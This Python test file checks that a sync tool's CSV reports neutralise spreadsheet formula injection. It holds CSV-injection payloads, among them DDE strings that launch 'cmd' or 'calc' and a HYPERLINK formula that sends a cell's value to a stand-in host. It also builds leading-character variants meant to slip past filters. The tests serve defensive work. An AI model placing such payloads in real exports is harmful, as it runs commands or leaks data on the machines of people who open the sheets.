"""S3: no cell of a sheet is a formula, whatever a roster says.

Payloads stand in every column of the sheets that a run writes, and in the cells,
headers, identifiers and file names of drops. Each cell is judged as a spreadsheet
would: what it may trim in front is not looked at. The sheets stay readable, and the
JSON beside them has every cell as it was.
"""

from __future__ import annotations

import csv
import itertools
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from random import Random
from typing import Any

import polars as pl
import pytest

from sync.model.finding import FINDING_SCHEMA, Findings
from sync.model.operation import OPERATION_SCHEMA
from sync.report import (
    OUTCOME_SCHEMA,
    RENAME_COLUMNS,
    operations_table,
    write_findings,
    write_operations,
    write_renames,
)
from tests.faults.proofs import Line
from tests.support.districts import district, with_cell
from tests.support.small import Edit, cells, column, line, member, person, row, write
from tests.support.workspace import TARGET, Workspace

COUNT = 500
FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
ALONE = "\t\r\n\0"
"""What a cell must not begin with, whatever follows."""
BEFORE = ("", " ", "\t", "\r", "\n", "\0", "\u00a0", "\u200b", "\ufeff", " \t ")
UNSEEN = ("\u00ad", "\u2060", "\u200e", "\u202e", "\u3000", "\x1b", "\x85", "\x7f")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"look")',
    "SUM(A1:A9)*2;,\t|",
    '"";"',
    "\r\nsecond line",
    "DDE(\"cmd\",'x')\n=1",
    "",
)


def payloads(count: int) -> list[str]:
    """So many of them, the same each time."""
    starts = [
        *itertools.product((*BEFORE, *UNSEEN), FORMULA),
        *itertools.product(ALONE),
    ]
    every = ["".join(start) + body for start in starts for body in BODIES]
    chance = Random(count)  # noqa: S311 - no secret
    return chance.sample(every, min(count, len(every)))


def runs(cell: str) -> bool:
    """Whether a spreadsheet might take the cell for a formula."""
    seen = cell.lstrip()
    while seen and unicodedata.category(seen[0])[0] in "CZ":
        seen = seen[1:].lstrip()
    return cell.startswith(tuple(ALONE)) or seen.startswith(tuple(FORMULA))


def sheet(path: Path) -> list[dict[str, str]]:
    """The rows of a sheet, each of the width of its header."""
    csv.field_size_limit(10**7)
    with path.open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file, strict=True)
    assert all(len(one) == len(header) for one in rows), path
    return [dict(zip(header, one, strict=True)) for one in rows]


def triggers(rows: Sequence[dict[str, str]]) -> int:
    """Cells of a sheet that would run."""
    return sum(runs(cell) for one in rows for cell in one.values())


def everywhere(schema: pl.Schema, found: Sequence[str]) -> pl.DataFrame:
    """A row for each payload, which stands in all its columns of text."""
    rows = len(found)
    values: dict[str, pl.Series] = {}
    for name, kind in schema.items():
        texts = pl.Series(name, found, pl.String)
        if kind == pl.String:
            values[name] = texts
        elif kind == pl.List(pl.String):
            values[name] = texts.reshape((rows, 1)).arr.to_list()
        else:
            values[name] = pl.Series(name, [1] * rows).cast(kind)
    return pl.DataFrame(values).select(schema.names())


def lost(found: Sequence[str], rows: Sequence[dict[str, str]], name: str) -> int:
    """Payloads that do not stand in a column, as they are or behind an apostrophe."""
    held = [one[name] for one in rows]
    return sum(
        cell not in {payload, f"'{payload}"}
        for payload, cell in zip(found, held, strict=True)
    )


def counted(
    proof: Callable[[str, str], Line], what: str, rows: Sequence[dict[str, str]]
) -> Line:
    """Feed the table with one sheet."""
    line_ = proof("S3", what)
    line_.times = sum(len(one) for one in rows)
    line_.zero("cells that would run", triggers(rows))
    return line_


def test_no_column_of_findings_csv_holds_a_formula(
    tmp_path: Path, proof: Callable[[str, str], Line], rounds: int
) -> None:
    found = payloads(COUNT * rounds)
    frame = everywhere(FINDING_SCHEMA, found).with_columns(
        since=pl.lit("2026-11-21"), known=pl.Series(found)
    )
    write_findings(Findings(frame), tmp_path / "findings.csv")
    rows = sheet(tmp_path / "findings.csv")
    told = counted(proof, "payloads in every column of findings.csv", rows)
    texts = [n for n, kind in FINDING_SCHEMA.items() if kind == pl.String]
    told.zero("lost", sum(lost(found, rows, one) for one in texts))


def test_no_column_of_operations_csv_holds_a_formula(
    tmp_path: Path, proof: Callable[[str, str], Line], rounds: int
) -> None:
    found = payloads(COUNT * rounds)
    operations = everywhere(OPERATION_SCHEMA, found)
    outcomes = everywhere(OUTCOME_SCHEMA, found)
    write_operations(operations_table(operations, outcomes), tmp_path / "o.csv")
    rows = sheet(tmp_path / "o.csv")
    told = counted(proof, "payloads in every column of operations.csv", rows)
    texts = ("id", "key", "verb", "state", "reason", "file", "message", "fields")
    told.zero("lost", sum(lost(found, rows, one) for one in texts))


def test_no_column_of_renames_csv_holds_a_formula(
    tmp_path: Path, proof: Callable[[str, str], Line], rounds: int
) -> None:
    found = sorted(set(payloads(COUNT * rounds)))
    frame = pl.DataFrame(dict.fromkeys(RENAME_COLUMNS, found)).with_columns(clear=True)
    assert write_renames(frame, tmp_path / "renames.csv")
    rows = sheet(tmp_path / "renames.csv")
    told = counted(proof, "payloads in every column of renames.csv", rows)
    told.all_of("rows", len(rows), len(found))


def spoiled(found: Iterator[str]) -> tuple[Edit, ...]:
    """A drop with a payload in cells, identifiers and headers; those that no cell of a
    file can hold are left out before."""
    edits: list[Edit] = [
        edit
        for number in range(30)
        for edit in (
            person(f"s{number + 10}", grades=next(found), email=next(found)),
            person(next(found), givenName=next(found), phone=next(found)),
            member(f"u{number + 10}", role=next(found), familyName=next(found)),
        )
    ]
    return (
        *edits,
        cells("enrollments", 2, beginDate=next(found)),
        cells("agents", 2, agentSourcedId=next(found)),
        line("orgs", 2, f'"{next(found).replace(chr(34), chr(34) * 2)}",North,active'),
        row("agents", f'"{next(found).replace(chr(34), chr(34) * 2)}",g1,mother'),
        column("students", '"=cmd|x"'),
        column("users", "@SUM(A1)", "=1"),
    )


@pytest.mark.parametrize("number", range(5))
def test_the_sheets_of_a_night_hold_no_formula_and_their_json_every_cell(
    workspace: Workspace, number: int, proof: Callable[[str, str], Line]
) -> None:
    every = [one for one in payloads(10_000) if "\0" not in one]
    Random(number).shuffle(every)  # noqa: S311 - no secret
    drop = write(workspace.folder / "drop", spoiled(iter(every)))
    (drop / "=1+1.csv").write_text("a,b\n1,2\n", "utf-8")
    (drop / "@notes.txt").write_text("nothing", "utf-8")
    ended = workspace.sync(drop)
    assert ended.code == 3, ended.err
    folder = workspace.state / "runs" / ended.document["run"]
    checked = workspace.run("check", drop, "--json").document["findings"]
    rows = [one for name in sheets(folder) for one in sheet(folder / name)]
    told = counted(proof, "sheets of nights with payloads in the drop", rows)
    told.least("findings", len(checked), 60)
    said = {str(one["value"]) for one in checked}
    told.zero("lost in the JSON", sum(bare(one["value"]) not in said for one in rows))


def sheets(folder: Path) -> list[str]:
    """The names of the sheets of a run that list findings."""
    return [one.name for one in folder.glob("*.csv") if one.name == "findings.csv"]


def bare(cell: str) -> str:
    """A cell of a sheet as it stood in the drop."""
    return cell[1:] if cell.startswith("'") and runs(cell[1:]) else cell or "None"


@pytest.fixture
def keyed(workspace: Workspace) -> tuple[Path, dict[str, Any]]:
    """A drop whose people are known by payloads, and what came of a night with it."""
    odd = [f"{sign}{n}+1|x" for n, sign in enumerate(FORMULA)]
    edits = [person(one, username=f"x{n}") for n, one in enumerate(odd)]
    drop = write(workspace.folder / "drop", (*edits,))
    workspace.configure(guards={"first_run": "pass"})
    return drop, workspace.sync(drop).document


def test_identifiers_that_look_like_formulas_are_none_in_operations_csv(
    workspace: Workspace,
    keyed: tuple[Path, dict[str, Any]],
    proof: Callable[[str, str], Line],
) -> None:
    folder = workspace.state / "runs" / keyed[1]["run"]
    rows = sheet(folder / "operations.csv")
    told = counted(proof, "identifiers that look like formulas", rows)
    odd = [one for one in rows if one["key"].startswith("'")]
    told.least("of them", len(odd), len(FORMULA))


def test_files_for_programs_have_every_cell_as_it_was(
    workspace: Workspace, proof: Callable[[str, str], Line]
) -> None:
    tables = district()
    people = tables.students["sourcedId"].sort().to_list()
    names = dict(zip(people, (f"{sign}1+1" for sign in FORMULA), strict=False))
    for key, name in names.items():
        tables = with_cell(tables, "students", key, givenName=name)
    drop = workspace.drop(tables)
    assert workspace.sync(drop).code == 0
    out, fetched = workspace.folder / "converted", workspace.folder / "fetched"
    assert workspace.run("convert", drop, "--to", "four-files", "--out", out).code == 0
    ended = workspace.run("fetch", "--target", TARGET, "--out", fetched)
    assert ended.code == 0, ended.err
    told = proof("S3", "names in files for programs (convert, fetch)")
    told.times = 2 * len(names)
    for folder in (out, fetched):
        rows = sheet(folder / "students.csv")
        after = {one["sourcedId"]: one["givenName"] for one in rows}
        same = sum(after[key] == name for key, name in names.items())
        told.all_of(f"as they were in {folder.name}", same, len(names))
